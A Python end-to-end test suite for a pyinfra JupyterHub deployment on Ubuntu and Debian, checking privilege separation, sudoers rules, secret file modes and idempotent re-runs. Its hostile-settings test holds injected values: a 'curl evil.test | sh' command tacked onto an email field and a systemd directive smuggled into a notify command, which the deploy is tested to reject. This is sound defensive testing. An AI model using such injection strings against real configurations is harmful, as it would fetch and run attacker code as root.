"""The deployed hub on Ubuntu 24.04 and Debian 12: real logins, spawns, kernels, and a deploy that converges."""

from __future__ import annotations

import re
import shlex
import time

import pytest

from tests.e2e.boundary import Canaries
from tests.e2e.conftest import USERS, run_pyinfra, write_inventory
from tests.e2e.hub_client import HubClient


def client(hub) -> HubClient:
    """A browser's view of the hub: HTTPS through nginx, verified against Pebble's roots."""
    return HubClient(f"https://{hub.domain}", verify=hub.ca_bundle)


def test_first_deploy_succeeds_on_both_targets(hubs):
    result = next(iter(hubs.values())).first_deploy
    assert result.totals["error"] == 0
    assert result.totals["success"] > 20, result.totals


def test_wrong_password_is_refused(hub):
    response = client(hub).login("alice", "not-her-password")
    assert response.status_code == 403


def test_user_logs_in_spawns_a_server_unit_of_their_own_and_runs_code(hub):
    user = client(hub)
    response = user.login("bob", USERS["bob"])
    assert response.status_code == 302, f"login failed ({response.status_code}):\n{hub.journal()}"
    user.create_token()
    try:
        user.start_server()
    except (TimeoutError, AssertionError) as error:
        pytest.fail(f"{error}\n{hub.journal()}")
    # The single-user server runs as bob, not as the hub user or root, in a unit of its
    # own in the users' slice: not a child of the hub.
    owners = hub.sh("ps -eo user:20,args | grep '[j]upyterhub-singleuser' | awk '{print $1}'").split()
    assert owners == ["bob"]
    unit = "jupyter-singleuser@bob.service"
    shown = hub.sh(f"systemctl show -p ActiveState -p Slice -p User {unit}").split()
    assert sorted(shown) == ["ActiveState=active", "Slice=jupyterhub-users.slice", "User=bob"]
    pid = hub.sh(f"systemctl show -p MainPID --value {unit}").strip()
    assert unit in hub.sh(f"cat /proc/{pid}/cgroup")
    assert user.run_code("print(6*7)") == "42\n"
    # Its API token is in no unit property, and no file of it is left where others look.
    assert user.token not in hub.sh(f"systemctl show {unit}")
    assert hub.sh("stat -c '%U %a' /run/jupyter-singleuser").split() == ["root", "700"]


def test_hub_runs_as_the_hub_user(hub):
    pid = hub.sh("systemctl show -p MainPID --value jupyterhub").strip()
    assert hub.sh(f"ps -o user= -p {pid}").strip() == "jupyter"
    sandbox = hub.sh(
        "systemctl show -p ProtectSystem -p ProtectHome -p PrivateTmp -p ProtectControlGroups jupyterhub"
    ).split()
    assert sorted(sandbox) == ["PrivateTmp=yes", "ProtectControlGroups=yes", "ProtectHome=yes", "ProtectSystem=full"]
    # The proxy runs in a unit of its own, as the hub user.
    proxy_pid = hub.sh("systemctl show -p MainPID --value jupyterhub-proxy").strip()
    assert "configurable-http-proxy" in hub.sh(f"ps -o args= -p {proxy_pid}")
    assert hub.sh(f"ps -o user= -p {proxy_pid}").strip() == "jupyter"


def test_sudoers_rule_is_valid_and_narrow(hub):
    hub.sh("visudo -c")
    assert hub.sh("stat -c '%U %G %a' /etc/sudoers.d/jupyterhub").strip() == "root root 440"
    # The hub user may run the user-server helper as root, to start or stop ...
    allowed = " ".join(hub.sh("sudo -l -U jupyter").split())  # sudo wraps its lines where it likes
    helper = "/opt/jupyter/libexec/user-server"
    assert f"(root) NOPASSWD: {helper} start *, {helper} stop *" in allowed
    # ... and nothing else, as nobody else; the helper refuses every user but a hub user's.
    for command in (
        "sudo -n -u root true",
        "sudo -n -u bob /bin/sh -c true",
        "sudo -n systemctl stop ssh",
        "sudo -n systemd-run --uid=root true",
        f"sudo -n {helper} status bob",
        f"sudo -n {helper} start root",
        f"sudo -n {helper} stop root",
    ):
        out = hub.sh(f"sudo -u jupyter {command} </dev/null 2>&1; echo exit=$?", check=False)
        assert "exit=0" not in out, command


def test_only_ssh_and_nginx_listen_beyond_loopback(hub):
    listeners = hub.sh("ss -Htln | awk '{print $4}'").split()
    public = {addr for addr in listeners if not addr.startswith(("127.", "[::1]"))}
    assert {a.rsplit(":", 1)[1] for a in public} == {"22", "80", "443"}, public
    assert {"127.0.0.1:8000", "127.0.0.1:8081", "127.0.0.1:8001"} <= set(listeners)


def test_secrets_and_state_are_private(hub):
    modes = hub.sh("stat -c '%n %U %G %a' /opt/jupyter/state /opt/jupyter/state/*").splitlines()
    assert "/opt/jupyter/state jupyter jupyter 700" in modes
    for name in ("jupyterhub_cookie_secret", "proxy.env", "idle_culler.env", "jupyterhub.sqlite"):
        assert f"/opt/jupyter/state/{name} jupyter jupyter 600" in modes


def test_venv_is_not_writable_by_the_hub_user_or_users(hub):
    assert hub.sh("find /opt/jupyter/.venv ! -type l \\( ! -user root -o -perm /022 \\) | head -3") == ""
    out = hub.sh("sudo -u jupyter touch /opt/jupyter/.venv/bin/x 2>&1; echo exit=$?", check=False)
    assert "exit=0" not in out


def test_secrets_are_made_by_the_hub_user_through_no_planted_link(hubs, workdir):
    """The hub account deletes a secret and plants links where a root-run deploy once wrote it."""
    hub = hubs["noble"]
    canaries = Canaries(hub)
    hub.sh("runuser -u jupyter -- rm /opt/jupyter/state/proxy.env")
    planted = [f"{name}.new" for name in ("proxy.env", "jupyterhub_cookie_secret", "idle_culler.env")]
    canaries.plant(*planted)
    result = run_pyinfra(write_inventory(workdir / "planted.py", [(hub.name, hub.data)]))
    assert result.returncode == 0, result.stderr[-3000:]
    canaries.assert_unchanged()
    assert hub.sh("stat -c '%F %U %a' /opt/jupyter/state/proxy.env").strip() == "regular file jupyter 600"
    # The new proxy token took effect: the hub and the proxy were restarted together.
    assert client(hub).login("alice", USERS["alice"]).status_code == 302, hub.journal()
    canaries.remove(*planted)


def test_systemd_reads_no_file_of_the_hub_as_root(hubs):
    """The culler's token file, replaced by a link to a root-only file: systemd's
    EnvironmentFile= would have read it as root into the culler's environment."""
    hub = hubs["noble"]
    hub.sh("umask 077 && echo JUPYTERHUB_API_TOKEN=root-only-value > /etc/jhd-root-env")
    secret = "/opt/jupyter/state/idle_culler.env"
    hub.sh(f"runuser -u jupyter -- sh -c 'mv {secret} {secret}.saved && ln -s /etc/jhd-root-env {secret}'")
    try:
        hub.sh("systemctl restart jupyterhub-idle-culler", check=False)
        time.sleep(3)
        environments = hub.sh("for p in $(pgrep -u jupyter); do tr '\\0' '\\n' < /proc/$p/environ; done", check=False)
        assert "root-only-value" not in environments
    finally:
        hub.sh(f"runuser -u jupyter -- mv -f {secret}.saved {secret} && systemctl restart jupyterhub-idle-culler")
    assert hub.sh("systemctl is-active jupyterhub-idle-culler").strip() == "active"


def test_homes_of_hub_users_are_private(hub):
    # Debian 12's login.defs makes homes 0755; the deploy makes them private.
    assert hub.sh("stat -c '%U %a' /home/alice /home/bob").split() == ["alice", "700", "bob", "700"]


def test_second_run_changes_nothing(hubs):
    inventory = next(iter(hubs.values())).inventory
    started = time.monotonic()
    result = run_pyinfra(inventory)
    elapsed = time.monotonic() - started
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.totals["success"] == 0, result.changed_operations()
    assert result.totals["error"] == 0
    print(f"no-op re-run on {len(hubs)} hosts: {elapsed:.1f} s")


# SSH commands a no-op re-run may send to one host. The deploy reads the directories it
# manages, the accounts, units and packages a few commands at a time (tasks/snapshot.py)
# and plans no operation where the host already agrees: 9-11 commands here (12 with
# jh_monitoring, as these hubs have), where one fact per file and pyinfra's own
# per-operation facts took 129 (and 4.9-8.7 s).
NOOP_SSH_COMMAND_BUDGET = 13


def test_noop_rerun_stays_within_its_ssh_command_budget(hubs):
    result = run_pyinfra(next(iter(hubs.values())).inventory, "--debug")
    assert result.returncode == 0, result.stderr[-3000:]
    assert result.totals["success"] == 0, result.changed_operations()
    for hub in hubs.values():
        commands = re.findall(rf"Running command on {re.escape(hub.name)}\b.*", result.stderr)
        print(f"{hub.name}: {len(commands)} SSH commands in a no-op re-run")
        assert 0 < len(commands) <= NOOP_SSH_COMMAND_BUDGET, "\n".join(c[:200] for c in commands)


def test_a_run_that_failed_before_restarting_the_hub_leaves_the_next_run_to_do_it(hubs):
    """The marker a run leaves until the hub runs its new configuration (there, as after a run
    that wrote hub.json and failed later): the next run restarts the hub and removes it."""
    hub = hubs["noble"]
    hub.sh("touch /opt/jupyter/.hub-restart-pending")
    result = run_pyinfra(hub.inventory)
    assert result.returncode == 0, result.stderr[-3000:]
    changed = result.changed_operations()
    assert "JupyterHub running and enabled" in changed and "Hub configuration data /opt/jupyter/hub.json" not in changed
    assert hub.sh("test -e /opt/jupyter/.hub-restart-pending && echo there || echo gone").strip() == "gone"
    assert run_pyinfra(hub.inventory).totals["success"] == 0


def test_venvs_built_with_uv_and_with_pip_from_one_lock_are_identical(hub):
    """The server venv (uv, from the deploy) against the same locks installed by pip."""
    env = hub.sh("readlink /opt/jupyter/.venv").strip()
    locks = hub.sh(f"ls {env}/py3.*.txt {env}/node-requirements.txt").split()
    bundle = "/etc/ssl/certs/ca-certificates.crt"
    for lock in locks:
        install = ["python3", "/tmp/pip-venv", lock, "/tmp/pip-venv.stamp", bundle, "", ""]
        hub.sh(f"/opt/jupyter/libexec/install-venv-lock {shlex.join(install)}")
    pip = "/tmp/pip-venv/bin/python -m pip --disable-pip-version-check"
    by_pip = hub.sh(f"{pip} freeze --all --exclude pip --exclude setuptools")
    by_uv = hub.sh(f"{pip} --python {env}/bin/python freeze --all --exclude pip --exclude setuptools")
    # The deploy's own package (hubside) besides the lock's, in the server venv alone.
    ours = [line for line in by_uv.splitlines() if line.startswith("hubside")]
    assert ours == [f"hubside @ file://{env}/hubside-1.0.0-py3-none-any.whl"], ours
    assert [line for line in by_uv.splitlines() if line not in ours] == by_pip.splitlines()
    assert len(by_pip.splitlines()) > 100
    assert hub.sh(f"test -x /opt/jupyter/tools/uv/bin/uv && ! test -e {env}/bin/pip && echo uv").strip() == "uv"
    # Compiled as pip compiles (users cannot write __pycache__ there), and nothing anyone may write.
    for venv in (env, "/tmp/pip-venv"):
        assert (
            hub.sh(f"ls {venv}/lib/python3*/site-packages/jupyterhub/__pycache__/ | grep -c '^app\\.'").strip() == "1"
        )
        assert hub.sh(f"find {venv} -perm /022 ! -type l | head -n 3") == ""
    hub.sh("rm -rf /tmp/pip-venv /tmp/pip-venv.stamp")


def test_dry_run_changes_nothing_on_the_host(hubs):
    paths = ("/opt/jupyter", "/etc/sudoers.d", "/etc/systemd/system", "/etc/pam.d", "/etc/passwd", "/etc/group")
    before = {name: hub.snapshot(*paths) for name, hub in hubs.items()}
    result = run_pyinfra(next(iter(hubs.values())).inventory, "--dry")
    assert result.returncode == 0, result.stderr[-3000:]
    for name, hub in hubs.items():
        after = hub.snapshot(*paths)
        changed = set(after.splitlines()) ^ set(before[name].splitlines())
        assert not changed, f"{name}: {sorted(changed)}"


def test_bad_settings_stop_the_run_before_any_change(hubs, workdir):
    hub = hubs["noble"]
    paths = ("/opt/jupyter", "/etc/sudoers.d", "/etc/systemd/system", "/etc/passwd", "/etc/group")
    before = hub.snapshot(*paths)
    data = {**hub.data, "jh_idle_timeout": "soon", "jh_users": [{"name": "carol"}, {"name": "Dave"}]}
    inventory = write_inventory(workdir / "bad-settings.py", [(hub.name, data)])
    result = run_pyinfra(inventory)
    assert result.returncode != 0
    assert "jh_idle_timeout: Input should be a valid integer" in result.stderr
    assert "jh_users[1][name]: must be a Unix user name" in result.stderr
    assert hub.snapshot(*paths) == before
    assert "carol" not in hub.sh("cat /etc/passwd")


def test_hostile_settings_stop_the_run_and_leave_the_host_byte_for_byte_unchanged(hubs, workdir):
    hub = hubs["bookworm"]
    # An existing sudo-capable account, as a careless admin might name it.
    hub.sh("id opadmin >/dev/null 2>&1 || useradd -m -G sudo opadmin")
    # The deploy's own kind of login: root's rights through a rule of its own in sudoers.d (no group).
    hub.sh(
        "id deployer >/dev/null 2>&1 || { useradd -m deployer"
        " && echo 'deployer ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/deployer && chmod 440 /etc/sudoers.d/deployer; }"
    )
    # An account whose home is / (a service account an admin took for a person), and an HPC-style
    # scratch folder anyone may write.
    hub.sh("id rooted >/dev/null 2>&1 || useradd -d / -M rooted; mkdir -p /scratch && chmod 1777 /scratch")
    key = workdir / "not-a-ca.pem"
    key.write_text(hub.sh("openssl genpkey -algorithm ed25519"))
    paths = ("/opt/jupyter", "/etc", "/scratch")
    volatile = ("*.sqlite", "*.sqlite-*", "*.pid", "/etc/machine-id", "/etc/mtab", "/etc/resolv.conf")
    before = hub.snapshot(*paths, exclude=volatile)
    cases = {
        "jh_users_group": {"jh_users_group": "sudo"},
        "jh_users[2]": {"jh_users": [*hub.data["jh_users"], {"name": "opadmin"}]},
        "jh_admin_users": {"jh_admin_users": ["opadmin"]},
        "jh_notify_command": {
            "jh_notify_on_failure": True,
            "jh_notify_command": "/bin/true\nExecStartPre=/bin/sh -c id",
        },
        "jh_install_root": {"jh_install_root": "/opt/hub%h"},
        "jh_extra_ca_certificates": {"jh_extra_ca_certificates": [str(key)]},
        "jh_services": {"jh_services": [{"path": "/api2/", "upstream": "http://127.0.0.1:8081/"}]},
        "jh_acme_email": {"jh_acme_email": "root@x.test; curl evil.test | sh"},
        # Well-formed, and dangerous.
        "sudo lets deployer run": {"jh_users": [*hub.data["jh_users"], {"name": "deployer"}]},
        "rooted's home is /": {"jh_users": [*hub.data["jh_users"], {"name": "rooted"}]},
        # (A hub account of its own: the deployed one's home is /opt/jupyter, and is refused as not the deploy's.)
        "jh_install_root: /scratch is not a folder only root can change": {
            "jh_install_root": "/scratch/jupyter",
            "jh_hub_user": "scratchhub",
        },
        "jh_notify_command: root runs /opt/jupyter/state/notify": {
            "jh_notify_on_failure": True,
            "jh_notify_command": "/opt/jupyter/state/notify",
        },
        "and jh_shared_dirs[0] (/opt/miniconda3) overlap": {
            "jh_shared_dirs": [{"path": "/opt/miniconda3", "mode": "read-only"}]
        },
    }
    for setting, bad in cases.items():
        inventory = write_inventory(workdir / "hostile.py", [(hub.name, {**hub.data, **bad})])
        result = run_pyinfra(inventory)
        assert result.returncode != 0, setting
        assert setting in result.stderr, f"{setting}: {result.stderr[-2000:]}"
        assert "no host was changed" in result.stderr, f"{setting}: {result.stderr[-2000:]}"
    assert hub.snapshot(*paths, exclude=volatile) == before


def test_a_broken_sudoers_rule_never_lands(hubs, workdir):
    hub = hubs["bookworm"]
    before = hub.sh("sha256sum /etc/sudoers.d/jupyterhub")
    inventory = write_inventory(workdir / "broken-sudoers.py", [(hub.name, hub.data)])
    result = run_pyinfra(inventory, deploy="tests/e2e/deploy_broken_sudoers.py")
    assert result.returncode != 0
    assert "visudo rejected the new sudoers rule" in result.stderr, result.stderr[-3000:]
    assert hub.sh("sha256sum /etc/sudoers.d/jupyterhub") == before
    assert hub.sh("ls /etc/sudoers.d") == hub.sh("ls /etc/sudoers.d | grep -v staged")
    hub.sh("visudo -c")
    # sudo still works for the hub afterwards.
    assert "/opt/jupyter/libexec/user-server" in hub.sh("sudo -l -U jupyter")


def test_idle_culler_stops_idle_servers(hubs):
    """bob's servers from the spawn test have been idle since; the culler must stop them."""
    users = {}
    for name, hub in hubs.items():
        user = users[name] = client(hub)
        assert user.login("bob", USERS["bob"]).status_code == 302
        user.create_token()
        if user.server() is None:
            user.start_server()
    # Timeout 60 s, checked every 10 s (TEST_SETTINGS); activity reports lag behind.
    deadline = time.monotonic() + 240
    while running := [name for name, user in users.items() if user.server() is not None]:
        assert time.monotonic() < deadline, "not culled:\n" + "\n".join(
            hubs[name].journal("jupyterhub-idle-culler") for name in running
        )
        time.sleep(5)
    for hub in hubs.values():
        assert "Culling server" in hub.journal("jupyterhub-idle-culler", lines=200)
        # Culled through the helper: the unit is gone.
        assert hub.sh("systemctl is-active jupyter-singleuser@bob.service", check=False).strip() != "active"


def test_permissions_task_alone_repairs_drift(hubs, workdir):
    hub = hubs["noble"]
    hub.sh(
        "chmod 644 /opt/jupyter/state/proxy.env && chmod g+w /opt/jupyter/.venv/bin/jupyterhub"
        " && chown nobody /opt/jupyter/jupyterhub_config.py && chmod 777 /opt/jupyter/state"
    )
    inventory = write_inventory(workdir / "permissions.py", [(hub.name, hub.data)])
    result = run_pyinfra(inventory, deploy="tasks.permissions.fix")
    assert result.returncode == 0, result.stderr[-3000:]
    assert hub.sh(
        "stat -c '%U %a' /opt/jupyter/state/proxy.env /opt/jupyter/.venv/bin/jupyterhub"
        " /opt/jupyter/jupyterhub_config.py /opt/jupyter/state"
    ).split("\n")[:4] == ["jupyter 600", "root 755", "root 644", "jupyter 700"]
    again = run_pyinfra(inventory, deploy="tasks.permissions.fix")
    assert again.totals["success"] == 0, again.changed_operations()


def test_dry_run_on_a_fresh_host_plans_everything_and_changes_nothing(start, workdir):
    host = start("noble", "jhd-test-fresh")
    watched = ("/etc", "/opt", "/usr/local")
    volatile = ("/etc/machine-id", "/etc/mtab", "/etc/resolv.conf", "/etc/hostname", "/etc/hosts")
    before = host.snapshot(*watched, exclude=volatile)
    result = run_pyinfra(write_inventory(workdir / "fresh.py", [(host.name, host.data)]), "--dry")
    assert result.returncode == 0, result.stderr[-3000:]
    planned = {op["name"] for op in result.json["plan"]}
    assert {
        "Install system packages",
        "Kernel python3: install teaching/py3.12.txt (in the background, as jupyterhub-install-kernel-python3.service)",
        "Kernel python3: wait for its install (jupyterhub-install-kernel-python3.service)",
        "Check the sudoers rule with visudo, then install it",
        "JupyterHub running and enabled",
    } <= planned
    assert host.snapshot(*watched, exclude=volatile) == before


def test_failure_notifier(hubs, workdir):
    hub = hubs["bookworm"]
    data = {**hub.data, "jh_notify_on_failure": True, "jh_notify_command": "/usr/bin/logger -t jhd-test-notify"}
    result = run_pyinfra(write_inventory(workdir / "notify.py", [(hub.name, data)]))
    assert result.returncode == 0, result.stderr[-3000:]
    assert "OnFailure=jupyterhub-notify-failure@%n.service" in hub.sh("cat /etc/systemd/system/jupyterhub.service")
    # What systemd starts when the hub fails for good (after its restarts).
    hub.sh("systemctl start jupyterhub-notify-failure@jupyterhub.service.service")  # %n.service
    journal = hub.sh("journalctl --no-pager -n 50 -t jupyterhub-notify -t jhd-test-notify")
    assert "jupyterhub.service failed; see journalctl -u jupyterhub.service" in journal
    # The command gets the failed unit's name; it also gets alerts (the test certificate soon ends),
    # so its line for the failure need not be its last.
    relayed = [line.rstrip() for line in journal.splitlines() if "jhd-test-notify" in line]
    assert any(line.endswith(": jupyterhub.service") for line in relayed), journal
    # Back to the settings the other tests expect.
    assert run_pyinfra(hub.inventory).returncode == 0
    assert "OnFailure" not in hub.sh("cat /etc/systemd/system/jupyterhub.service")
